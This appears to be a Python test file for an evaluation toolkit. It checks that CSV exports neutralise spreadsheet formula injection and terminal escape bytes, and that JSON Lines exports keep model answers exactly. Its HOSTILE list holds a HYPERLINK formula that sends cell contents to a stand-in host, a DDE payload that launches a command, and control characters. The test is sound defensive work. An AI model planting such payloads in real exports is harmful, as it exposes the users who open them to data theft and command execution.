"""A CSV export cannot run anything in the spreadsheet that opens it (issue 44, item 2).

A model's answer is text someone else wrote: `=HYPERLINK(...)`, `@SUM(...)`, `+1`, `-3` or a leading
tab/CR are formulas to Excel, LibreOffice and Google Sheets, and raw ESC/BEL/NUL act on terminals. The
run's records are given such answers (and a category of the same kind), then exported: CSV neutralises
the text cells and leaves the numbers numbers; JSON Lines keeps every text exactly.
"""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

from evalkit.export import export

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-3",
           "\t=1+2", "\r=1+2", "B\x1b[31m red\x07 bell\x00 nul"]
SAFE = ["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1", "'-3",
        "'\t=1+2", "'\r=1+2", "B\\u001b[31m red\\u0007 bell\\u0000 nul"]


def _hostile_copy(run_dir: Path, folder: Path) -> tuple[Path, list[dict]]:
    """The run directory with its first answers (and first category) replaced by hostile text."""
    copy = folder / "hostile-run"
    shutil.copytree(run_dir, copy)
    path = copy / "records.jsonl"
    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]
    for record, text in zip(records[:len(HOSTILE)], HOSTILE, strict=True):
        record["response"] = text
    records[0]["category"] = "=1+1"
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    return copy, records


def test_csv_text_cells_are_neutralised_and_numbers_stay_numbers(run_dir, tmp_path):
    hostile, records = _hostile_copy(run_dir, tmp_path)
    out = tmp_path / "q.csv"
    export([hostile], "csv", out=out)
    raw = out.read_bytes()
    assert b"\x1b" not in raw and b"\x07" not in raw and b"\x00" not in raw
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(records)
    assert [r["raw_answer"] for r in rows[:len(HOSTILE)]] == SAFE
    assert rows[0]["category"] == "'=1+1"
    for row in rows:  # no text cell starts a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    # numeric columns are numbers, unquoted: what a spreadsheet sums
    assert all(float(r["latency_s"]) > 0 and int(r["input_tokens"]) > 0 for r in rows)
    assert sum(float(r["cost_usd"]) for r in rows) > 0
    # an answer that is fine stays as it was
    assert [r["raw_answer"] for r in rows[len(HOSTILE):]] == [r["response"] for r in records[len(HOSTILE):]]


def test_jsonl_keeps_every_text_exactly(run_dir, tmp_path):
    hostile, records = _hostile_copy(run_dir, tmp_path)
    out = tmp_path / "q.jsonl"
    export([hostile], "jsonl", out=out)
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [r["raw_answer"] for r in rows[:len(HOSTILE)]] == HOSTILE
    assert rows[0]["category"] == "=1+1"
